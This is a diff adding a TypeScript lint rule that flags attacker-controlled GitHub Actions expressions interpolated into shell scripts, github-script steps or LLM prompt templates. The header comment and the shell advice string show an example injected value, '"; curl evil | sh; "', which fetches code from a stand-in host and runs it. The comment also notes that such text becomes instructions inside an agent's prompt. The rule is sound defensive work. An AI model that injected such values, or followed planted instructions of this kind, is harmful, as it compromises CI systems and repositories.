@@ -1,0 +1,126 @@
+import { INPUTS, OUTPUTS } from '../../names.js';
+import type { Job, ValueMap, WorkflowValue } from '../../workflow/index.js';
+import type { LintContext } from '../context.js';
+import { expressionFacts, pathStartsWith } from '../expression-facts.js';
+import type { LintFinding } from '../finding.js';
+import { expressionsIn } from '../locate.js';
+import { batonStepIds, stepAction } from '../workflow-facts.js';
+
+/**
+ * `untrusted-expression`: GitHub replaces `${{ }}` with its value before a script or an action sees the
+ * text. Interpolated into a `run:` script, an issue title like `"; curl evil | sh; "` becomes shell; into a
+ * prompt template, it becomes template and instructions before baton can fence it. Attacker-controlled
+ * values are the event payload (`github.event.*`), `github.head_ref` (a branch name anyone can choose), and
+ * the `data` a handoff carries (an agent wrote it, perhaps after reading attacker text).
+ */
+export function checkUntrustedExpressions(context: LintContext): LintFinding[] {
+  const { workflow } = context;
+  const dataOutputs = new Map(workflow.jobs.map((job) => [job.id.toLowerCase(), dataOutputsOf(job)]));
+  const findings: LintFinding[] = [];
+  for (const job of workflow.jobs) {
+    const dataSteps = batonStepIds(job);
+    for (const step of job.steps) {
+      const taintedEnv = taintedNames([workflow.env, job.env, step.env], dataSteps, dataOutputs);
+      const isUntrusted = (path: string[]) =>
+        untrustedPath(path, dataSteps, dataOutputs) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
+      const check = (value: WorkflowValue | undefined | null, kind: Sink) => {
+        if (value) findings.push(...findingsIn(value, kind, isUntrusted, context));
+      };
+      check(step.run, 'shell');
+      const action = stepAction(step);
+      if (action === 'stage' || action === 'prepare') {
+        check(step.with[INPUTS.prompt], 'prompt');
+        check(step.with[INPUTS.run], 'shell');
+        check(step.with[INPUTS.verify], 'shell');
+      }
+      if (step.uses && /^actions\/github-script@/.test(step.uses.text)) check(step.with.script, 'script');
+    }
+  }
+  return findings;
+}
+
+type Sink = 'shell' | 'prompt' | 'script';
+
+function findingsIn(
+  value: WorkflowValue,
+  sink: Sink,
+  isUntrusted: (path: string[]) => boolean,
+  { file, locator }: LintContext,
+): LintFinding[] {
+  const findings: LintFinding[] = [];
+  for (const { expression, offset } of expressionsIn(value.text)) {
+    if (!expressionFacts(expression).paths.some(isUntrusted)) continue;
+    findings.push({
+      rule: 'untrusted-expression',
+      file,
+      ...locator.locate(value, offset),
+      message: advice(`\${{ ${expression} }}`, sink),
+    });
+  }
+  return findings;
+}
+
+function advice(shown: string, sink: Sink): string {
+  switch (sink) {
+    case 'shell': {
+      const env = /^\$\{\{ env\.([A-Za-z_][A-Za-z0-9_]*) \}\}$/.exec(shown);
+      if (env) {
+        return `\`${shown}\` in a shell command: ${env[1]} holds attacker-controlled text, and GitHub pastes it into the script before the shell reads it. Use "$${env[1]}" (the shell's variable) instead`;
+      }
+      return `\`${shown}\` in a shell command: GitHub pastes the value into the script before the shell reads it, so text like \`"; curl … | sh; "\` runs. Pass it through \`env:\` (NAME: ${shown}) and use "$NAME" in the script`;
+    }
+    case 'script':
+      return `\`${shown}\` in a github-script: GitHub pastes the value into the JavaScript before it runs. Pass it through \`env:\` and read process.env.NAME`;
+    case 'prompt':
+      return `\`${shown}\` in a prompt: GitHub pastes the value into the template before baton compiles it, so the text becomes template and instructions. Use the Handlebars form instead (\`{{github.event.…}}\`, \`{{stages.<id>.data.<key>}}\`), which baton prints as data, inside \`{{fence …}}\` for text people wrote`;
+  }
+}
+
+const UNTRUSTED_PREFIXES = [['github', 'event'], ['github', 'head_ref']];
+
+function untrustedPath(
+  path: string[],
+  dataSteps: ReadonlySet<string>,
+  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>,
+): boolean {
+  if (path[0] === 'github' && path.length === 1) return true; // toJSON(github) carries the event
+  if (UNTRUSTED_PREFIXES.some((prefix) => pathStartsWith(path, prefix))) return true;
+  const [context, id, outputs, name] = path;
+  if (outputs !== 'outputs' || id === undefined || name === undefined) return false;
+  if (context === 'steps') return name === OUTPUTS.data && (dataSteps.has(id) || id === '*');
+  if (context === 'needs') return dataOutputs.get(id)?.has(name) === true || id === '*';
+  return false;
+}
+
+/** Env names (any level visible to the step) whose value is itself untrusted, one hop deep. */
+function taintedNames(
+  maps: ValueMap[],
+  dataSteps: ReadonlySet<string>,
+  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>,
+): Set<string> {
+  const names = new Set<string>();
+  for (const map of maps) {
+    for (const [name, value] of Object.entries(map)) {
+      if (value.expression === null) continue;
+      if (expressionFacts(value.expression).paths.some((p) => untrustedPath(p, dataSteps, dataOutputs))) {
+        names.add(name.toLowerCase());
+      }
+    }
+  }
+  return names;
+}
+
+
+/** A job's outputs that carry a baton step's `data` (free text an agent wrote). */
+function dataOutputsOf(job: Job): Set<string> {
+  const steps = batonStepIds(job);
+  const names = new Set<string>();
+  for (const [name, value] of Object.entries(job.outputs)) {
+    if (value.expression === null) continue;
+    const carries = expressionFacts(value.expression).paths.some(
+      (p) => p[0] === 'steps' && p[2] === 'outputs' && p[3] === OUTPUTS.data && steps.has(p[1] ?? ''),
+    );
+    if (carries) names.add(name.toLowerCase());
+  }
+  return names;
+}
